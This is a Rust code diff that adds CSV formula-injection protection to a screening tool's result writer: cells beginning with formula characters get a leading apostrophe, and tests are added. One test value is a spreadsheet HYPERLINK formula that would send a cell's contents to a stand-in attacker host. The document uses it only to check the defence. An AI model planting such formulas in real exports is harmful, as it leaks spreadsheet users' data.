@@ -2,6 +2,13 @@
 //! LF line ends. A field is quoted exactly when it holds a comma, a double quote, CR or LF (a
 //! quote inside doubled): what the `csv` crate's writer does with `QuoteStyle::Necessary`; a
 //! test holds the two equal.
+//!
+//! A cell that a spreadsheet would run as a formula (one that begins with `=`, `+`, `-`, `@`, a
+//! tab or a carriage return: `=HYPERLINK(…)` in an echoed `ref`) is written with a leading
+//! apostrophe (`'=SUM(1)`), which spreadsheets read as "this is text" and do not show; nothing
+//! else changes. Every cell that can hold text from outside the code (`ref`, the reasons, the
+//! error's question and message) goes through [`cell`]; the others are ids, codes, versions and
+//! dates, which never begin with those characters (a test holds every rulebook to that).
 
 use screener::dates;
 use screener::engine::Status;
@@ -41,7 +48,7 @@ pub fn row(result: &RowResult, out: &mut Vec<u8>) {
     let mut number = [0u8; 20];
     out.extend_from_slice(decimal(result.row, &mut number));
     out.push(b',');
-    field(out, &result.reference);
+    cell(out, &result.reference);
     match &result.outcome {
         Ok(screening) => {
             let mut text = String::with_capacity(256);
@@ -56,9 +63,9 @@ pub fn row(result: &RowResult, out: &mut Vec<u8>) {
             out.extend_from_slice(b",,,,,,,,,,,,");
             out.extend_from_slice(error.code.code().as_bytes());
             out.push(b',');
-            field(out, error.question.as_deref().unwrap_or(""));
+            cell(out, error.question.as_deref().unwrap_or(""));
             out.push(b',');
-            field(out, &error.message());
+            cell(out, &error.message());
             out.push(b'\n');
         }
     }
@@ -120,7 +127,7 @@ fn screened(screened: &Screened, out: &mut String) {
         }
         reasons.push_str(&sentences::reason(s.program, f, screened.voice, DateStyle::Iso));
     }
-    field_str(out, &reasons);
+    cell_str(out, &reasons);
 }
 
 /// `n` in decimal, in `buffer`.
@@ -141,35 +148,45 @@ fn needs_quotes(text: &str) -> bool {
     text.bytes().any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n'))
 }
 
-/// Appends one field, quoted when it must be.
-pub fn field(out: &mut Vec<u8>, text: &str) {
-    if !needs_quotes(text) {
-        out.extend_from_slice(text.as_bytes());
-        return;
-    }
-    out.push(b'"');
-    for (i, part) in text.split('"').enumerate() {
-        if i > 0 {
-            out.extend_from_slice(b"\"\"");
-        }
-        out.extend_from_slice(part.as_bytes());
-    }
-    out.push(b'"');
+/// Whether a spreadsheet would run a cell that begins with this text as a formula (SCREENING.md
+/// §10): `=`, `+`, `-`, `@`, a tab or a carriage return first.
+fn is_formula(text: &str) -> bool {
+    matches!(text.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
 }
 
-fn field_str(out: &mut String, text: &str) {
+/// Appends one field as RFC 4180 writes it: quoted when it must be, as it is otherwise.
+pub fn field(out: &mut Vec<u8>, text: &str) {
+    write_field(text, false, |part| out.extend_from_slice(part.as_bytes()));
+}
+
+/// Appends one cell of a result row: a [`field`], with an apostrophe first when a spreadsheet
+/// would run it as a formula.
+pub fn cell(out: &mut Vec<u8>, text: &str) {
+    write_field(text, true, |part| out.extend_from_slice(part.as_bytes()));
+}
+
+/// [`cell`], onto a `String`.
+fn cell_str(out: &mut String, text: &str) {
+    write_field(text, true, |part| out.push_str(part));
+}
+
+/// A field as the pieces [`field`] (or, `neutral`, [`cell`]) appends, in order.
+fn write_field(text: &str, neutral: bool, mut push: impl FnMut(&str)) {
+    let apostrophe = if neutral && is_formula(text) { "'" } else { "" };
     if !needs_quotes(text) {
-        out.push_str(text);
+        push(apostrophe);
+        push(text);
         return;
     }
-    out.push('"');
+    push("\"");
+    push(apostrophe);
     for (i, part) in text.split('"').enumerate() {
         if i > 0 {
-            out.push_str("\"\"");
+            push("\"\"");
         }
-        out.push_str(part);
+        push(part);
     }
-    out.push('"');
+    push("\"");
 }
 
 #[cfg(test)]
@@ -220,8 +237,76 @@ mod tests {
             }
         }
         let mut s = String::new();
-        field_str(&mut s, "a \"b\", c");
+        cell_str(&mut s, "a \"b\", c");
         assert_eq!(s, "\"a \"\"b\"\", c\"");
+    }
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_run_gets_an_apostrophe_first_and_nothing_else_changes() {
+        let one = |text: &str| {
+            let mut out = Vec::new();
+            cell(&mut out, text);
+            String::from_utf8(out).unwrap()
+        };
+        for (text, written) in [
+            ("=SUM(1)", "'=SUM(1)"),
+            ("+1", "'+1"),
+            ("-2", "'-2"),
+            ("@cmd", "'@cmd"),
+            ("\tx", "'\tx"),
+            ("\rx", "\"'\rx\""),
+            (
+                "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
+                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\")\"",
+            ),
+            // Only the first character counts; an apostrophe already first is text already.
+            (" =1", " =1"),
+            ("a=b", "a=b"),
+            ("'=1", "'=1"),
+            ("", ""),
+            ("2026-11-22", "2026-11-22"),
+        ] {
+            assert_eq!(one(text), written, "{text:?}");
+        }
+        // Quoted as the csv crate quotes the same text with its apostrophe; a plain field (the
+        // input files of tests) is left as it is.
+        for text in ["=a,b", "-\"x\"", "@\n", "+1"] {
+            let mut out = Vec::new();
+            cell(&mut out, text);
+            out.push(b'\n');
+            assert_eq!(out, csv_crate(&[&format!("'{text}")]), "{text:?}");
+            assert_eq!(ours(&[text]), csv_crate(&[text]), "{text:?}");
+        }
+    }
+
+    #[test]
+    fn a_formula_ref_reason_or_message_is_neutralised_in_a_whole_row() {
+        use screener_contract::{ContractError, ErrorCode, Problem};
+        let error = ContractError {
+            code: ErrorCode::InvalidAnswer,
+            question: Some("=1+1".into()),
+            problem: Problem::AnsweredTwice("=1+1".into()),
+            lang: screener::model::Lang::En,
+        };
+        let result = RowResult { row: 1, reference: "=HYPERLINK(\"x\")".into(), outcome: Err(error) };
+        let mut out = Vec::new();
+        row(&result, &mut out);
+        assert_eq!(
+            String::from_utf8(out).unwrap(),
+            "1,\"'=HYPERLINK(\"\"x\"\")\",,,,,,,,,,,,invalid_answer,'=1+1,'=1+1 is answered twice\n"
+        );
+    }
+
+    #[test]
+    fn no_id_code_or_version_a_row_writes_unescaped_begins_as_a_formula() {
+        for program in screener::rules::ALL {
+            let mut unescaped = vec![program.id, program.version];
+            unescaped.extend(program.questions.iter().map(|q| q.id));
+            unescaped.extend(program.criteria.iter().map(|c| c.id));
+            for text in unescaped {
+                assert!(!text.is_empty() && !is_formula(text), "{}: {text:?}", program.id);
+            }
+        }
     }
 
     #[test]
